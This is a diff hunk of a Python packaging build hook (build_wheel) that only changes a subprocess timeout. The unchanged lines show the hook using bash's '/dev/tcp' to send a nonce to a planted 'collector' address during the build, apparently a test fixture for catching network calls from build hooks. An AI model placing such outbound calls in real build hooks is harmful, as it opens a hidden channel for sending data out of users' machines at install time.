@@ -14,5 +14,5 @@ def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
         collector = kit.plant("collector")
         command = ["bash", "-c", 'printf "%s\\n" "$2" > "/dev/tcp/$0/$1"']
         command += [collector.address, str(collector.port), kit.nonce]
-        subprocess.run(command, check=True, timeout=5)
+        subprocess.run(command, check=True, timeout=kit.seconds(5))
     return kit.wheel(wheel_directory)
